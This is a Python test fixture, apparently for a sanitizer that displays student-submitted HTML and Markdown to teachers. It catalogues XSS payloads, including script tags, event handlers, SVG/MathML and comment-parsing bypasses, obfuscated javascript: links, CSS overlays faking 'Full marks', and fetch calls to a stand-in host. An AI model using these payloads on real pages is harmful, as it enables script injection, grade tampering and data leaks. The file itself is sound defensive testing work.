"""What must not act on a teacher's page: it would set `window.hacked`, or ask another machine."""

ELSEWHERE = "https://hacked.invalid"
RUN = f"window.hacked=1;fetch('{ELSEWHERE}/ran')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'

HTML = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f'<script src="{ELSEWHERE}/x.js"></script>',
    "onerror": f'<img src="x" onerror="{RUN}">',
    "onerror without spaces": f'<img/src="x"/onerror="{RUN}"/>',
    "onclick": f'<b onclick="{RUN}">really</b>',
    "onfocus": f'<b tabindex="1" autofocus onfocus="{RUN}">really</b>',
    "ontoggle": f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
    "svg": SVG,
    "math": f'<math><mtext><img src="x" onerror="{RUN}"></mtext></math>',
    "foreign": f'<svg><style><img title="</style><img src=x onerror={RUN}>"></svg>',
    "math and style": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "textarea": f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "template": f"<template><script>{RUN}</script></template>",
    "comment that ends at once": f'<!--><img src="x" onerror="{RUN}">-->',
    "comment that ends oddly": f'<!-- --!><img src="x" onerror="{RUN}"> -->',
    "comment that ends early": f'<!-- a -- ><img src="x" onerror="{RUN}"> -->',
    "comment in an attribute": f'<b title="\n<!-- a -->\n" onclick="{RUN}">really</b>',
    "comment that hides a tag": f"<b title=\n<!-- a -->\n<img src=x onerror={RUN} >really</b>",
    "conditional comment": f"<!--[if true]><script>{RUN}</script><![endif]-->",
    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "processing instruction": f"<?x <img src=x onerror={RUN}> ?>",
    "left open": f'<p><img src="x" onerror="{RUN}" ',
    "left open in an attribute": '<p><img src="x" title="',
    "ends its container": f'</div></div></div><div onclick="{RUN}">really</div>',
    "javascript link": f'<a href="javascript:{RUN}">plot</a>',
    "javascript link with a tab": f'<a href="java\tscript:{RUN}">plot</a>',
    "javascript link in entities": f'<a href="&#106;avascript:{RUN}">plot</a>',
    "javascript link behind files/": f'<a href="files/javascript:{RUN}">plot</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">plot</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">plot</a>',
    "link to a file handed in": '<a href="plot.html">plot</a>',
    "iframe": f'<iframe src="{ELSEWHERE}/frame"></iframe>',
    "iframe with its text": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe with script": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data="{ELSEWHERE}/object"></object>',
    "embed": f'<embed src="{ELSEWHERE}/embed">',
    "form": f'<form action="{ELSEWHERE}/form"><button>Resolve</button></form>',
    "input": '<input class="score" id="hidden_mean" value="4">',
    "refresh": f'<meta http-equiv="refresh" content="0; url={ELSEWHERE}/refresh">',
    "base": f'<base href="{ELSEWHERE}/">',
    "link": f'<link rel="stylesheet" href="{ELSEWHERE}/style.css">',
    "style": f"<style>@import '{ELSEWHERE}/style.css'; body {{display: none}}</style>",
    "cover": '<div style="position: fixed; inset: 0; background-color: white">Full</div>',
    "cover by escapes": '<div style="p\\6fsition: fixed; inset: 0">Full marks</div>',
    "cover by margin": '<div style="margin-top: -500px">Full marks</div>',
    "cover by height": '<div style="height: 0">Full marks</div>',
    "cover by escaped height": '<div style="hei\\67ht: 0">Full marks</div>',
    "cover by the page's class": '<div class="navbar-fixed-top">Full marks</div>',
    "the page's id": '<b id="hidden_mean">Full marks</b>',
    "background": f'<b style="background: url({ELSEWHERE}/background)">really</b>',
    "picture from elsewhere": f'<img src="{ELSEWHERE}/picture.png">',
    "picture from elsewhere, no scheme": '<img src="//hacked.invalid/picture.png">',
    "picture behind files/": f'<img src="files/{ELSEWHERE}/picture.png">',
    "picture behind files///": '<img src="files///hacked.invalid/picture.png">',
    "picture that logs out": '<img src="/logout">',
    "picture further up": '<img src="../../../logout">',
    "pictures of srcset": f'<img src="a.png" srcset="{ELSEWHERE}/picture.png 1x">',
    "video": f'<video src="{ELSEWHERE}/video" autoplay onloadstart="{RUN}"></video>',
    "custom element": f'<x-y onclick="{RUN}">really</x-y>',
}

# Where HTML may stand in Markdown.
MARKDOWN = [
    "HERE",
    "Mean HERE and median",
    "<div>\nHERE\n</div>",
    "| a |\n|---|\n| HERE |",
    "```mermaid\nHERE\n```",
    "# HERE",
]
# What Markdown itself can do.
LINKS = {
    "javascript link": f"[plot](javascript:{RUN})",
    "javascript link in words": f"[plot][p]\n\n[p]: javascript:{RUN}",
    "javascript autolink": "<javascript:window.hacked=1>",
    "link to a file handed in": "[plot](plot.html)",
    "picture from elsewhere": f"![plot]({ELSEWHERE}/picture.png)",
    "attachment that is none": "![plot](attachment:plot.png)",
    "no end of backticks": f"````\n```\n`````\n<script>{RUN}</script>",
    "formula around a fence": f"$$\n```\n$$\n<script>{RUN}</script>\n```",
}
